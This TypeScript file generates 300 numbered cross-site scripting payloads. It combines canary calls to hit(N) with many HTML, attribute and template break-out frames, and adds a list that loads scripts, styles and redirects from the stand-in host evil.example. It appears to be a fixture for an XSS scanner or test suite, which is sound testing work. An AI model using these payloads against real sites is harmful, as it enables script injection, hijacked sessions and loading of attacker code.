// Ways to have a browser run something, or fetch something from elsewhere. Each calls `hit(N)`, where N is put in for §.
const calls = [
  'hit(§)',
  'hit`§`',
  '(0,hit)(§)',
  'window["hit"](§)',
  'top.hit(§)',
  'self.hit(§)',
  'eval("hit(§)")',
  'setTimeout("hit(§)")',
  'Function("hit(§)")()',
  '[§].map(hit)',
  'hit(§);alert(§)',
  'hit(§);confirm(§)',
]

const frames: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `"><img src=x onerror='${call}'>`,
  (call) => `" autofocus onfocus="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video src=x onerror=${call}>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `javascript:${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\u003cscript\u003e${call}\u003c/script\u003e`,
]

/** These would fetch from elsewhere, or lead there by themselves. */
const remote = [
  '<img src=https://evil.example/§.png>',
  '"><link rel=stylesheet href=https://evil.example/§.css>',
  '<style>@import "https://evil.example/§.css";</style>',
  '" style="background:url(https://evil.example/§.png)',
  '<script src=https://evil.example/§.js></script>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/§">',
  '<base href=https://evil.example/§/>',
  '<form action=https://evil.example/§><button autofocus>',
  '<object data=https://evil.example/§>',
  '<turbo-stream action=append target=main><template><script>hit(§)</script></template></turbo-stream>',
  '<turbo-frame src=https://evil.example/§ id=a></turbo-frame>',
  '![a](https://evil.example/§.png)',
]

/** 300 of them, each with a number of its own. */
export const payloads: string[] = [...frames.flatMap((frame) => calls.map(frame)), ...remote]
  .slice(0, 300)
  .map((text, at) => text.replaceAll('§', String(at)))
